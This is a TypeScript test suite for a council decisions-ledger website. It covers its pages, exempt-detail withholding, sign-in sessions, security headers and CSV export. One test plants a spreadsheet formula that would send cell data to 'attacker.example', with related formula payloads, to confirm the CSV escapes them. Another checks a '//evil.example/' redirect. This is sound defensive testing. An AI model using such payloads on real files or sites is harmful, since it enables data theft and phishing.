import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { importScenarios } from '../apps/ledger-cli/src/scenarios/scenario-import.js';
import { ADMIN_KEY, describeOnEveryStore, describeWithFreshApis, type HttpAnswer } from './ledger-api.js';

/*
 * The website over HTTP, on a ledger holding the five seed papers: every page type answers HTML in
 * the site's design, on the same reads as the JSON API; unknown records are 404 pages and filters
 * that are not valid 400 pages; exempt detail is withheld from the public on every page, in the
 * CSV and in the feed; and every page carries the site's security headers.
 */

const SCENARIOS = join(process.cwd(), 'scenarios');
const WOKINGHAM_S75 = '/proposals/wokingham-enhanced-section-75-partnership';
const WIRRAL = '/proposals/wirral-integrated-commissioning';
const WIRRAL_DECISION = `${WIRRAL}/decisions/wirral-cabinet-2017-11-27-integrated-commissioning`;
/** Words of the Wirral proposal's exempt summary, which the public must not read. */
const WIRRAL_EXEMPT_WORDS = 'Creates a single integrated commissioner';

/** Visible text of a page, without its tags, with entities for quotes turned back. */
const textOf = (html: string): string => html.replace(/<[^>]+>/g, ' ').replaceAll('&#39;', "'").replaceAll('&quot;', '"').replaceAll('&amp;', '&').replace(/\s+/g, ' ');

describeOnEveryStore('the website', (api) => {
  let position: string;
  let scrutiny: string;
  const page = async (path: string, options: { key?: string | null; status?: number } = {}): Promise<{ answer: HttpAnswer; text: string }> => {
    const answer = await api().get(path, { key: options.key === undefined ? null : options.key });
    expect({ path, status: answer.status, type: answer.headers['content-type'] }).toEqual({ path, status: options.status ?? 200, type: 'text/html; charset=utf-8' });
    return { answer, text: textOf(answer.body) };
  };

  beforeAll(async () => {
    const files = (await readdir(SCENARIOS)).filter((file) => file.endsWith('.ndjson')).sort();
    const result = await importScenarios(files.map((file) => join(SCENARIOS, file)), { url: api().baseUrl, key: ADMIN_KEY });
    position = result.lastPosition!;
    expect((await api().get(`/v1/proposals?minPosition=${position}`)).status).toBe(200);
    scrutiny = await api().keyFor('scrutiny', 'wirral-scrutiny');
  });

  it('home: the organisations with their bodies, the latest decisions, and the ledger’s standing in the footer', async () => {
    const { text } = await page('/');
    expect(text).toContain('Wiltshire Council');
    expect(text).toContain('Wokingham Health and Wellbeing Board');
    expect(text).toContain('Latest decisions');
    expect(text).toMatch(/Recorded up to \d{1,2} \w+ \d{4} at \d{1,2}:\d{2}(am|pm); /);
    // Once a checkpoint is signed, the footer says how much of the log it seals (read at most once a second).
    const signed = (await api().request('POST', '/v1/ledger/checkpoints')).json();
    let footer = '';
    for (let attempt = 0; attempt < 30 && !footer.includes('sealed in checkpoint'); attempt++) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      footer = (await page('/')).text;
    }
    expect(footer).toContain(`sealed in checkpoint ${signed.treeSize.toLocaleString('en-GB')}, signed`);
  });

  it('search: proposals, bodies and organisations by words in their title, name or id, on the page and in the API', async () => {
    const found = await page('/search?q=wirral+commissioning');
    expect(found.text).toContain('Integrated Commissioning for Wirral');
    expect(found.text).toMatch(/\d+ results? for “wirral commissioning”/);
    const api_ = (await api().get('/v1/search?q=Wiltshire%20Alliance', { key: null })).json();
    expect(api_.bodies.map((body: { id: string }) => body.id)).toContain('wiltshire-alliance-joint-committee');
    expect((await page('/search?q=no-such-words-anywhere')).text).toContain('Nothing in the ledger matches');
    expect((await page('/search?q=100%25_')).text).toContain('Nothing in the ledger matches'); // % and _ are taken literally
    expect((await page('/search?q=')).text).toContain('Enter words to search for.');
    expect((await page('/')).text).toContain('Search proposals, decisions, bodies and organisations');
    expect((await api().get('/v1/search', { key: null })).status).toBe(400);
  });

  it('organisation: a dissolved CCG says plainly who took over and what became of its delegations', async () => {
    const { text } = await page('/organisations/bsw-ccg');
    expect(text).toContain('was dissolved at the end of 30 June 2022.');
    expect(text).toContain('NHS Bath and North East Somerset, Swindon and Wiltshire Integrated Care Board took over on 1 July 2022, and the delegations made for it transferred to its successor.');
    expect(text).toContain('Transferred to NHS Bath and North East Somerset, Swindon and Wiltshire Integrated Care Board');
    expect(text).toContain('Clinical commissioning group (CCG)');
    expect((await page('/')).text).toContain('Clinical commissioning group (CCG). Dissolved at the end of 30 June 2022');
  });

  it('body: who sat on it at a date, with its history', async () => {
    const { text } = await page('/bodies/wokingham-integrated-partnership?at=2018-11-08');
    expect(text).toContain('Members on 8 November 2018');
    expect(text).toContain('Every membership');
    const today = await page('/bodies/wokingham-integrated-partnership?at=');
    expect(today.text).toContain('Members on');
  });

  it('a body’s decisions register: newest first, filtered by date, with a CSV and an Atom feed', async () => {
    const all = await page('/bodies/wokingham-hwb/decisions');
    expect(all.text).toContain('Decisions register');
    const cabinet = await page('/bodies/wirral-cabinet/decisions?from=2017-11-01&to=2017-11-30');
    expect(cabinet.text).toContain('27 November 2017');
    expect(cabinet.text).not.toContain('16 January 2017');
    const keyOnly = await page('/bodies/wirral-cabinet/decisions?keyDecision=true&outcome=approved&callIn=');
    const apiKeyOnly = (await api().get('/v1/bodies/wirral-cabinet/decisions?keyDecision=true&outcome=approved', { key: null })).json();
    for (const decision of apiKeyOnly.items as { decidedOn: string }[]) expect(keyOnly.text).toContain(new Intl.DateTimeFormat('en-GB', { day: 'numeric', month: 'long', year: 'numeric', timeZone: 'Europe/London' }).format(new Date(decision.decidedOn)));
    expect((await page('/bodies/wirral-cabinet/decisions?keyDecision=maybe', { status: 400 })).text).toContain('keyDecision must be true or false');
    expect((await page('/bodies/wirral-cabinet/decisions?callIn=open')).text).toContain('No decisions match.');
    const csv = await api().get('/bodies/wirral-cabinet/decisions.csv', { key: null });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.body.split('\r\n')[0]).toContain('proposalTitle');
    const feed = await api().get('/bodies/wirral-cabinet/decisions.atom', { key: null });
    expect(feed.status).toBe(200);
    expect(feed.headers['content-type']).toBe('application/atom+xml; charset=utf-8');
    expect(feed.body).toContain('<feed xmlns="http://www.w3.org/2005/Atom">');
    expect(feed.body).toContain('Integrated Commissioning for Wirral');
  });

  it('scheme of delegation: the delegations in force at a date from the governing body down, a successor holding what its predecessor passed on', async () => {
    const council = await page('/organisations/wiltshire-council/delegations?at=2022-08-01');
    expect(council.text).toContain('Scheme of delegation on 1 August 2022');
    expect(council.text).toContain('to Wiltshire Alliance Joint Committee wiltshire-cabinet-to-wajc-bcf');
    const icb = await page('/organisations/bsw-icb/delegations?at=2022-08-01');
    expect(icb.text).toContain('bsw-ccg-to-wiltshire-lcg-s75');
    expect(icb.text).toContain('transferred to NHS Bath and North East Somerset, Swindon and Wiltshire Integrated Care Board when it was dissolved');
    expect((await page('/organisations/bsw-icb/delegations?at=2022-03-01')).text).not.toContain('bsw-ccg-to-wiltshire-lcg-s75');
    expect((await page('/organisations/wiltshire-council/delegations?at=1 August', { status: 400 })).text).toContain('There is a problem with the address');
  });

  it('delegation: its terms, instrument and timeline, transfer included; 404 under another organisation', async () => {
    const { text } = await page('/organisations/bsw-ccg/delegations/bsw-ccg-to-wiltshire-lcg-s75');
    expect(text).toContain('Granted');
    expect(text).toContain('With effect from 1 April 2020');
    expect(text).toContain('Transferred to NHS Bath and North East Somerset, Swindon and Wiltshire Integrated Care Board');
    expect(text).toContain('Wiltshire Section 75 Agreement');
    await page('/organisations/wiltshire-council/delegations/bsw-ccg-to-wiltshire-lcg-s75', { status: 404 });
  });

  it('authority check: a form answering in a sentence with every granting chain, or the reasons, and saying what it cannot use', async () => {
    const question = '/authority?holderId=wiltshire-alliance-joint-committee&organisationId=bsw-icb&scopes=bcf&amount=1%2C000%2C000';
    const august = await page(`${question}&at=2022-08-01`);
    expect(august.text).toContain('Yes: Wiltshire Alliance Joint Committee could decide bcf up to £1,000,000 for NHS Bath and North East Somerset, Swindon and Wiltshire Integrated Care Board on 1 August 2022.');
    expect(august.text).toContain('delegated to Wiltshire Alliance Joint Committee by bsw-icb-to-wajc-bcf');
    const march = await page(`${question}&at=2022-03-01`);
    expect(march.text).toContain('No: Wiltshire Alliance Joint Committee could not decide bcf up to £1,000,000 for NHS Bath and North East Somerset, Swindon and Wiltshire Integrated Care Board on 1 March 2022.');
    expect(march.text).toContain('not established until');
    const empty = await page('/authority?holderId=&organisationId=&scopes=&amount=lots&at=', { status: 400 });
    for (const message of ['There is a problem', 'Enter the body or post that decides', 'Choose the organisation', 'Enter at least one function', 'Enter the amount in pounds']) expect(empty.text).toContain(message);
    expect((await page('/authority?holderId=wiltshire-alliance-joint-committee&organisationId=bsw-icb&scopes=bcf&at=1st of August', { status: 400 })).text).toContain('There is a problem');
    expect((await page('/authority')).text).toContain('Check authority');
  });

  it('audit trail, sealed log, help and accessibility statement', async () => {
    const audit = await page('/audit?actor=admin:bootstrap&recordedFrom=2020-01-01');
    expect(audit.text).toContain('Audit trail');
    expect(audit.text).toContain('admin:bootstrap');
    expect((await page('/audit?fromPosition=yesterday', { status: 400 })).text).toContain('fromPosition');
    const ledger = await page('/ledger');
    const checkpoint = (await api().get('/v1/ledger/checkpoint', { key: null })).json();
    expect(ledger.text).toContain(checkpoint.verifierKey);
    expect(ledger.text).toContain('npx ledger verify --url');
    const help = await page('/help');
    for (const word of ['Ratification', 'Delegation', 'Scheme of delegation', 'Committee in common', 'Call-in', 'Exempt information and Schedule 12A', 'Checkpoint']) expect(help.text).toContain(word);
    expect((await page('/accessibility')).text).toContain('Web Content Accessibility Guidelines version 2.2 AA');
  });

  it('proposal register: filters as the API’s, and a clear message for one that is not valid', async () => {
    const open = await page('/proposals?status=open');
    expect(open.text).toContain('Enhanced Section 75 Partnership');
    const bad = await page('/proposals?status=pending', { status: 400 });
    expect(bad.text).toContain('There is a problem with the address');
    expect(bad.text).toContain('status');
  });

  it('proposal: the approval route step by step, the status in a sentence, the history in English', async () => {
    const { text } = await page(WOKINGHAM_S75);
    expect(text).toContain('Open: 7 of 9 steps decided; waiting for Wokingham Health and Wellbeing Board to endorse and Berkshire West 10 (BW10) Integration Board to endorse.');
    expect(text).toContain('NHS Wokingham Clinical Commissioning Group to approve');
    expect(text).toContain('Decided on 16 May 2017');
    expect(text).toContain('History');
  });

  it('decision: the statutory record, call-in, the authority relied on as a chain, and whether it still holds', async () => {
    const { text } = await page(`${WOKINGHAM_S75}/decisions/wbc-corporate-team-2017-05-09`);
    expect(text).toContain('Decided on 9 May 2017');
    expect(text).toContain('Wokingham Borough Council Executive delegated to Wokingham Borough Council Corporate Team');
    expect(text).toContain('Wokingham Borough Council Constitution');
    expect(text).toContain('On everything the ledger knows now, this authority still holds.');
    expect(text).toContain('npx ledger verify --url');
  });

  it('gives an auditor the decision’s inclusion proof and the signed checkpoint to check in the browser, and the public the command', async () => {
    await api().request('POST', '/v1/ledger/checkpoints');
    const path = `${WOKINGHAM_S75}/decisions/wbc-corporate-team-2017-05-09`;
    const auditor = await api().keyFor('auditor');
    const { answer } = await page(path, { key: auditor });
    const decision = (await api().get(`/v1${WOKINGHAM_S75}`)).json().ratifications.find((ratification: { id: string }) => ratification.id === 'wbc-corporate-team-2017-05-09');
    const proof = (await api().get(`/v1/ledger/proofs/inclusion?position=${decision.position}`, { key: auditor })).json();
    expect(answer.body).toContain(`data-leaf-index="${proof.leafIndex}"`);
    expect(answer.body).toContain(proof.leafHash);
    for (const hash of proof.proof) expect(answer.body).toContain(hash);
    expect(answer.body).toContain('Verify in this browser');
    const { answer: anonymous, text } = await page(path);
    expect(anonymous.body).not.toContain('data-proof');
    expect(text).toContain('Auditors who sign in see its inclusion proof');
  });

  it('withholds exempt detail from the public on the decision, proposal, register, CSV and feed, and shows it to scrutiny', async () => {
    for (const path of [WIRRAL_DECISION, WIRRAL, '/bodies/wirral-cabinet/decisions']) {
      const { answer, text } = await page(path);
      expect({ path, exempt: text.includes('Exempt: Schedule 12A, paragraph 3') }).toEqual({ path, exempt: true });
      expect({ path, leaked: answer.body.includes(WIRRAL_EXEMPT_WORDS) || answer.body.includes('[exempt:') }).toEqual({ path, leaked: false });
    }
    for (const path of ['/bodies/wirral-cabinet/decisions.csv', '/bodies/wirral-cabinet/decisions.atom']) {
      const answer = await api().get(path, { key: null });
      expect({ path, leaked: answer.body.includes('Cabinet, 27 November 2017') }).toEqual({ path, leaked: false });
    }
    const shown = await page(WIRRAL, { key: scrutiny });
    expect(shown.text).toContain(WIRRAL_EXEMPT_WORDS);
  });

  it('answers unknown records with a 404 page, an unknown address asked for by a browser too, and the API’s with a problem', async () => {
    for (const path of ['/organisations/no-such-council', '/bodies/no-such-body', '/bodies/no-such-body/decisions', '/proposals/no-such-proposal', `${WOKINGHAM_S75}/decisions/no-such-decision`]) {
      const { text } = await page(path, { status: 404 });
      expect(text).toContain('Page not found');
    }
    const browser = await api().get('/no-such-page', { key: null, headers: { accept: 'text/html,application/xhtml+xml' } });
    expect([browser.status, browser.headers['content-type'], textOf(browser.body).includes('Page not found')]).toEqual([404, 'text/html; charset=utf-8', true]);
    for (const path of ['/no-such-page', '/v1/no-such-read']) {
      const answer = await api().get(path, { key: null, headers: path.startsWith('/v1') ? { accept: 'text/html' } : {} });
      expect([path, answer.status, answer.headers['content-type']]).toEqual([path, 404, 'application/problem+json; charset=utf-8']);
    }
  });

  it('signs a reader in with an API key: a signed, HttpOnly, SameSite=Strict session that shows exempt detail, never cached, until sign-out', async () => {
    const form = (fields: Record<string, string>) => api().request('POST', '/sign-in', { key: null, rawBody: new URLSearchParams(fields).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect((await page('/sign-in')).text).toContain('API key');

    const refused = await form({ key: 'dl_not-a-key-anyone-was-given', returnTo: WIRRAL });
    expect([refused.status, textOf(refused.body).includes('This API key is not known')]).toEqual([401, true]);
    expect(refused.headers['set-cookie']).toBeUndefined();
    expect((await form({ key: '' })).status).toBe(400);

    const signedIn = await form({ key: scrutiny, returnTo: WIRRAL });
    expect([signedIn.status, signedIn.headers.location]).toEqual([303, WIRRAL]);
    const cookie = signedIn.headers['set-cookie'];
    expect(cookie).toMatch(/^ledger_session=[^;]+; Max-Age=28800; Path=\/; HttpOnly; SameSite=Strict$/);
    expect(cookie).not.toContain(scrutiny);
    const session = cookie.split(';')[0];

    const shown = await api().get(WIRRAL, { key: null, headers: { cookie: session } });
    expect([shown.status, shown.headers['cache-control'], shown.body.includes(WIRRAL_EXEMPT_WORDS), textOf(shown.body).includes('Signed in as wirral-scrutiny (scrutiny)')]).toEqual([200, 'private, no-store', true, true]);
    const forged = await api().get(WIRRAL, { key: null, headers: { cookie: `${session.slice(0, -2)}xx` } });
    expect([forged.status, forged.body.includes(WIRRAL_EXEMPT_WORDS), forged.headers['cache-control']]).toEqual([200, false, 'no-cache']);

    const out = await api().request('POST', '/sign-out', { key: null, headers: { cookie: session } });
    expect([out.status, out.headers.location]).toEqual([303, '/']);
    expect(out.headers['set-cookie']).toMatch(/^ledger_session=; Max-Age=0; Path=\/; Expires=Thu, 01 Jan 1970/);
    expect((await form({ key: scrutiny, returnTo: '//evil.example/' })).headers.location).toBe('/');
  });

  it('heads every page with its own section current and a sign-in link back to itself, though the header is rendered once for each section and reader', async () => {
    const signInLink = (html: string) => /href="(\/sign-in\?returnTo=[^"]*)"/.exec(html)?.[1];
    const current = (html: string) => /govuk-service-navigation__item--active"?>\s*<a[^>]*>\s*(?:<strong[^>]*>)?\s*([^<]+?)\s*</.exec(html)?.[1];
    for (const path of ['/proposals?status=open', '/proposals', WIRRAL, '/audit']) {
      const { answer } = await page(path);
      expect({ path, signIn: signInLink(answer.body) }).toEqual({ path, signIn: `/sign-in?returnTo=${encodeURIComponent(path)}` });
      expect({ path, current: current(answer.body) }).toEqual({ path, current: path.startsWith('/audit') ? 'Audit trail' : 'Proposals' });
    }
    const signedIn = await page('/audit', { key: scrutiny });
    expect(signedIn.text).toContain('Signed in as wirral-scrutiny (scrutiny)');
    expect(signInLink(signedIn.answer.body)).toBeUndefined();
    expect((await page('/audit')).text).not.toContain('Signed in as');
  });

  it('sends security headers with a Content-Security-Policy that allows no inline script, and keeps /docs working', async () => {
    const home = await api().get('/', { key: null });
    expect(home.headers['content-security-policy']).toContain("script-src 'self'");
    expect(home.headers['content-security-policy']).not.toContain('unsafe-inline');
    expect(home.headers['x-content-type-options']).toBe('nosniff');
    expect(home.body).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    const docs = await api().get('/docs', { key: null });
    expect(docs.status).toBe(200);
    expect(docs.headers['content-security-policy']).toContain("style-src 'self' 'unsafe-inline'");
    for (const asset of ['/assets/site.css', '/assets/site.js', '/assets/govuk-frontend.min.js']) expect({ asset, status: (await api().get(asset, { key: null })).status }).toEqual({ asset, status: 200 });
    expect((await api().get('/assets/index.scss', { key: null })).status).toBe(404);
  });

  // Last: it changes the ledger the tests above read (a decision open to call-in, a call-in, a revocation).
  it('call-ins: decisions open to call-in closing soonest first, call-ins lodged with their outcomes; and decisions whose authority is in doubt', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
    const commands: [string, unknown][] = [
      ['/v1/bodies', { id: 'wokingham-overview-and-scrutiny', name: 'Wokingham Overview and Scrutiny Management Committee', kind: 'scrutiny-committee', organisationId: 'wokingham-borough-council', establishedOn: '2001-05-01' }],
      [`/v1${WOKINGHAM_S75}/ratifications`, { ratificationId: 'wokingham-hwb-endorsement', deciderId: 'wokingham-hwb', version: 1, outcome: 'approved', decidedOn: today, callInUntil: `${inDays(7)}T17:00:00Z` }],
      [`/v1${WOKINGHAM_S75}/call-ins`, { callInId: 'wokingham-call-in', ratificationId: 'wokingham-hwb-endorsement', scrutinyBodyId: 'wokingham-overview-and-scrutiny', lodgedOn: today, reason: 'The partnership’s risk share needs scrutiny' }],
      ['/v1/delegations/wokingham-executive-to-corporate-team/revocation', { effectiveFrom: '2017-04-01', reason: 'The Executive withdrew the officers’ delegation (recorded late)' }],
    ];
    let last = '';
    for (const [path, body] of commands) {
      const answer = await api().post(path, body);
      expect({ path, status: answer.status, body: answer.status === 201 ? '' : answer.body }).toEqual({ path, status: 201, body: '' });
      last = answer.json().position;
    }
    await api().get(`/v1/proposals?minPosition=${last}`);

    const callIns = await page('/call-ins');
    expect(callIns.text).toContain(`Open to call-in until ${new Intl.DateTimeFormat('en-GB', { day: 'numeric', month: 'long', year: 'numeric', timeZone: 'Europe/London' }).format(new Date(`${inDays(7)}T17:00:00Z`))}`);
    expect(callIns.text).toContain('Called in by Wokingham Overview and Scrutiny Management Committee');
    expect(callIns.text).toContain('The partnership’s risk share needs scrutiny');
    expect(callIns.text).toContain('Not yet resolved');

    const doubt = await page('/decisions?authority=lapsed');
    expect(doubt.text).toContain('Decisions whose authority is in doubt');
    expect(doubt.text).toContain('Authority no longer holds');
    expect(doubt.text).toContain('9 May 2017');
    const decision = await page(`${WOKINGHAM_S75}/decisions/wbc-corporate-team-2017-05-09`);
    expect(decision.text).toContain('On what the ledger knows now, this authority no longer holds.');
    expect(decision.text).toMatch(/The ledger learnt this on \d{1,2} \w+ \d{4} at \d{1,2}:\d{2}(am|pm) \(delegation revoked, position/);
    expect((await page('/decisions?outcome=adopted', { status: 400 })).text).toContain('outcome');
  });

  it('gives a clerk the whole register in one CSV file that is safe to open in Excel: a byte-order mark, no live formula, readable columns', async () => {
    // A title an attacker could table, which Excel would run as a formula if a cell began with it.
    const formula = '=HYPERLINK("http://attacker.example/steal?d="&A1,"Click for the minutes")';
    const proposalId = 'wirral-formula-in-a-title';
    expect((await api().post('/v1/proposals', { id: proposalId, title: formula, summary: '+SUM(1,2) in a summary', scopes: ['commissioning'], keyDecision: false, proposedById: 'wirral-cabinet-member-adult-social-care', route: [{ organisationId: 'wirral-council', bodyId: 'wirral-cabinet', requirement: 'approve' }], tabledOn: '2018-01-08' })).status).toBe(201);
    const ratified = await api().post(`/v1/proposals/${proposalId}/ratifications`, { ratificationId: 'wirral-cabinet-2018-01-15-formula', organisationId: 'wirral-council', deciderId: 'wirral-cabinet', version: 1, outcome: 'approved', decidedOn: '2018-01-15', reasons: '@SUM(A1:A9) as reasons' });
    expect(ratified.status).toBe(201);
    const since = ratified.headers['x-ledger-position'] as string;

    let decisions = 0;
    for (let cursor: string | null = null, first = true; first || cursor; first = false) {
      const page = (await api().get(`/v1/bodies/wirral-cabinet/decisions?limit=1&minPosition=${since}${cursor ? `&cursor=${cursor}` : ''}`, { key: null })).json() as { items: unknown[]; nextCursor: string | null };
      decisions += page.items.length;
      cursor = page.nextCursor;
    }
    expect(decisions).toBeGreaterThan(2);
    const csv = await api().get('/bodies/wirral-cabinet/decisions.csv?limit=1', { key: null });
    expect(csv.status).toBe(200);
    expect(csv.headers['x-next-cursor']).toBeUndefined();
    expect(csv.body.startsWith('\uFEFF')).toBe(true);
    const rows = csv.body.slice(1).trimEnd().split('\r\n');
    expect(rows).toHaveLength(decisions + 1); // every decision, not the first page: the limit does not apply to the download
    expect(rows[0]).not.toMatch(/\{|"\w+":/); // no JSON in the header
    const formulaRow = rows.find((row) => row.startsWith('wirral-cabinet-2018-01-15-formula,'))!;
    expect(formulaRow).toContain(`"'=HYPERLINK(""http://attacker.example`);
    expect(formulaRow).toContain("'@SUM(A1:A9) as reasons");
    expect(formulaRow).not.toMatch(/,=|,"=|,@|,"@/); // no cell Excel would run

    const apiCsv = await api().get(`/v1/proposals?organisationId=wirral-council&limit=50&minPosition=${since}`, { key: null, headers: { accept: 'text/csv' } });
    expect(apiCsv.body.startsWith('\uFEFF')).toBe(true);
    expect(apiCsv.body).toContain(`"'=HYPERLINK(""http://attacker.example`);
    expect(apiCsv.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const paged = await api().get('/v1/proposals?limit=1', { key: null, headers: { accept: 'text/csv' } });
    expect(paged.headers.link).toBe(`</v1/proposals?limit=1&cursor=${encodeURIComponent(paged.headers['x-next-cursor'] as string)}>; rel="next"`);
  });
});

describeWithFreshApis('the website with anonymous reading switched off', (start) => {
  it('sends the public to sign in, and back to the page they asked for', async () => {
    const api = await start({ LEDGER_PUBLIC_READ: 'false' });
    try {
      const home = await api.get('/proposals?status=open', { key: null });
      expect([home.status, home.headers.location]).toEqual([303, '/sign-in?returnTo=%2Fproposals%3Fstatus%3Dopen']);
      expect((await api.get('/sign-in?returnTo=%2Fproposals', { key: null })).status).toBe(200);
      const auditor = await api.keyFor('auditor');
      expect((await api.get('/proposals', { key: auditor })).status).toBe(200);
    } finally {
      await api.stop();
    }
  });
});
